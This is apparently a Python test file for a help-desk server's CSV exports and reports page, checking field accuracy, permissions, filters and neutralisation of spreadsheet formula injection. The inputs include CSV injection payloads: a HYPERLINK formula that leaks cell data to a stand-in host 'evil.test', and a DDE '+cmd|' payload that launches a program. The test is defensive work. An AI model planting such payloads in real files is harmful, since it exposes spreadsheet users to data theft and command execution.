"""Exports and reports over the real server: tickets.csv parses with Python's csv module
and matches the API's tickets field for field under the list's filters; a summary a
spreadsheet would run as a formula is made inert; time.csv has one row per time entry at
each worker's rate; the reports page shows the period's figures, chart and downloads (the
same files); a Tech gets 403 and bad filters 400."""

import csv
import datetime
import io
import smtplib
import unittest

from harness import Browser, Server, mail, staff_link

HOSTILE = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")'
COLUMNS = ["number", "org", "summary", "type", "status", "priority", "requester",
           "assignee", "created", "updated", "due", "resolved", "first_response",
           "time_logged_minutes", "cost"]
API_FIELD = {"type": "type", "created": "created_at", "updated": "updated_at",
             "resolved": "resolved_at", "first_response": "first_response_at"}


class Exports(unittest.TestCase):
    def setUp(self):
        srv = Server().bootstrap(orgs=(("acme", "Acme", []), ("beta", "Beta", [])),
                                 staff=[("alex@ops.test", "Alex", "tech"),
                                        ("mgr@ops.test", "Mona", "manager")])
        self.addCleanup(srv.close)
        self.tech = srv.cli("token", "create", "alex@ops.test").stdout.strip()
        self.mgr = srv.cli("token", "create", "mgr@ops.test").stdout.strip()
        self.admin_link = staff_link(srv, "tester@ops.test")
        self.alex_link = staff_link(srv, "alex@ops.test")
        self.mgr_link = staff_link(srv, "mgr@ops.test")
        self.srv = srv.start()

    def open_ticket(self, frm, to, subject):
        mid = f"<{abs(hash((frm, subject)))}@customer.test>"
        with smtplib.SMTP("127.0.0.1", self.srv.smtp_port) as s:
            s.send_message(mail(frm, to, subject, "Details.", message_id=mid))
        return self.srv.decision_for(mid)["ticket"]

    def csv_rows(self, path, token=None, expect=200):
        body = self.srv.api(path, token=token, expect=expect)
        if expect != 200:
            return body
        text = body.decode("utf-8")
        self.assertTrue(text.endswith("\r\n"), "RFC 4180 ends records with CRLF")
        return list(csv.DictReader(io.StringIO(text, newline="")))

    def log_time(self, browser, n, minutes):
        page = browser.get(f"/desk/tickets/{n}")[2]
        status = browser.post(f"/desk/tickets/{n}/time",
                              {"csrf": browser.csrf(page), "minutes": str(minutes)})[0]
        self.assertIn(status, (200, 303))

    def test_exports_match_the_api_and_neutralise_formulas(self):
        srv = self.srv
        a = self.open_ticket("rita@customer.test", "acme@acme.test", "Printer, \"the big one\"")
        b = self.open_ticket("sam@customer.test", "acme@acme.test", HOSTILE)
        c = self.open_ticket("tom@customer.test", "acme@acme.test", "Bug: login loops")
        d = self.open_ticket("uma@customer.test", "beta@acme.test", "+cmd|' /C calc'!A0")
        e = self.open_ticket("vic@customer.test", "beta@acme.test", "x;=1+1;@SUM(1)")
        admin = Browser(srv)
        admin.get(self.admin_link)
        page = admin.get("/settings/staff")[2]
        for who, rate in (("alex@ops.test", "60"), ("tester@ops.test", "30.50")):
            role = "tech" if who.startswith("alex") else "admin"
            status = admin.post("/settings/staff/update", {"csrf": admin.csrf(page),
                                "email": who, "role": role, "rate": rate})[0]
            self.assertIn(status, (200, 303))
        srv.send("PATCH", f"/api/v1/tickets/{a}", {"assignee": "alex@ops.test",
                                                   "due": "2030-01-31", "priority": "high"})
        srv.send("POST", f"/api/v1/tickets/{a}/replies", {"text": "On it."}, expect=201)
        srv.send("PATCH", f"/api/v1/tickets/{b}", {"status": "resolved"})
        alex = Browser(srv)
        alex.get(self.alex_link)
        self.log_time(alex, a, 90)
        self.log_time(admin, a, 30)
        self.log_time(admin, c, 15)

        rows = self.csv_rows("/api/v1/exports/tickets.csv")
        self.assertEqual(list(rows[0].keys()), COLUMNS)
        self.assertEqual([int(r["number"]) for r in rows], sorted([a, b, c, d, e]))
        # Every cell quoted: a spreadsheet splitting on ";" keeps "x;=1+1" one cell.
        raw = srv.api("/api/v1/exports/tickets.csv").decode()
        self.assertTrue(raw.startswith('"number","org","summary"'), raw[:40])
        self.assertIn('"x;=1+1;@SUM(1)"', raw)
        for r in rows:
            api = srv.ticket(int(r["number"]))
            for col in COLUMNS:
                want = api[API_FIELD.get(col, col)]
                want = "" if want is None else str(want)
                if col == "summary" and want[:1] in "=+-@":
                    want = "'" + want
                self.assertEqual(r[col], want, f"#{r['number']} {col}")
        by_number = {int(r["number"]): r for r in rows}
        self.assertEqual(by_number[b]["summary"], "'" + HOSTILE)
        self.assertEqual(by_number[d]["summary"], "'+cmd|' /C calc'!A0")
        self.assertEqual(by_number[a]["summary"], 'Printer, "the big one"')
        # 90 minutes at 60.00 and 30 at 30.50.
        self.assertEqual((by_number[a]["time_logged_minutes"], by_number[a]["cost"]),
                         ("120", "105.25"))
        self.assertEqual(by_number[a]["assignee"], "alex@ops.test")
        self.assertNotEqual(by_number[a]["first_response"], "")
        self.assertNotEqual(by_number[b]["resolved"], "")
        self.assertEqual(by_number[c]["type"], "bug")

        # The list's filters.
        def numbers(query):
            return sorted(int(r["number"]) for r in self.csv_rows(
                f"/api/v1/exports/tickets.csv?{query}"))
        self.assertEqual(numbers("org=beta"), [d, e])
        self.assertEqual(numbers("status=resolved"), [b])
        self.assertEqual(numbers("type=bug"), [c])
        today = datetime.datetime.now(datetime.timezone.utc).date()
        self.assertEqual(numbers(f"from={today}&to={today}"), sorted([a, b, c, d, e]))
        self.assertEqual(numbers(f"from={today + datetime.timedelta(days=1)}"), [])
        for bad in ("from=2026-13-01", "to=yesterday", "status=late", "type=task",
                    f"from={today}&to={today - datetime.timedelta(days=1)}"):
            srv.api(f"/api/v1/exports/tickets.csv?{bad}", expect=400)

        # Time entries: one row each, at each worker's rate.
        time_rows = self.csv_rows("/api/v1/exports/time.csv")
        self.assertEqual(
            [(int(r["ticket"]), r["staff"], r["minutes"], r["hourly_rate"], r["cost"])
             for r in time_rows],
            [(a, "alex@ops.test", "90", "60.00", "90.00"),
             (a, "tester@ops.test", "30", "30.50", "15.25"),
             (c, "tester@ops.test", "15", "30.50", "7.62")])
        self.assertEqual([int(r["ticket"]) for r in
                          self.csv_rows("/api/v1/exports/time.csv?type=bug")], [c])

        srv.api("/api/v1/exports/users.csv", expect=404)
        # Managers export; Techs do not, by token or in the browser.
        self.assertEqual(len(self.csv_rows("/api/v1/exports/tickets.csv", token=self.mgr)), 5)
        for path in ("/api/v1/exports/tickets.csv", "/api/v1/exports/time.csv"):
            srv.api(path, token=self.tech, expect=403)
        self.assertEqual(alex.get("/reports/tickets.csv")[0], 403)
        # The reports page's download is the API's file.
        status, headers, text = admin.get("/reports/tickets.csv?org=acme")
        self.assertEqual(status, 200)
        self.assertIn("attachment", headers.get("Content-Disposition", ""))
        self.assertEqual(text.encode(), srv.api("/api/v1/exports/tickets.csv?org=acme"))

        # The reports page: this period's figures for acme, its chart and its downloads.
        page = admin.get(f"/reports?org=acme&from={today}&to={today}")[2]
        self.assertIn('<svg id="chart"', page)
        self.assertRegex(page, r'id="totals">Opened <strong>3</strong> · resolved or closed <strong>1</strong>')
        self.assertRegex(page, r'<tr><th>bug</th><td>1</td><td>0</td></tr>')
        self.assertRegex(page, r'<tr><th>alex@ops.test</th><td>1</td><td>0</td></tr>')
        self.assertRegex(page, r'<tr><th>alex@ops.test</th><td>1:30</td><td>90.00</td></tr>')
        self.assertRegex(page, r'<tr><th>acme</th><td>2:15</td><td>112.87</td></tr>')
        self.assertRegex(page, r'<tr><th>First response</th><td>1</td>')
        self.assertRegex(page, f'href="/reports/tickets.csv[?]from={today}(&amp;|&#38;)to={today}'
                               f'(&amp;|&#38;)org=acme"')
        everyone = admin.get(f"/reports?from={today}&to={today}")[2]
        self.assertRegex(everyone, r'id="totals">Opened <strong>5</strong>')
        self.assertEqual(alex.get("/reports")[0], 403)
        mona = Browser(srv)
        mona.get(self.mgr_link)
        self.assertEqual(mona.get("/reports")[0], 200)
        for bad in ("from=2026-02-30", f"from={today}&to={today - datetime.timedelta(days=1)}",
                    f"from={today - datetime.timedelta(days=400)}&to={today}",
                    "from=9999-12-30&to=9999-12-31"):
            self.assertEqual(admin.get(f"/reports?{bad}")[0], 400, bad)


if __name__ == "__main__":
    unittest.main()
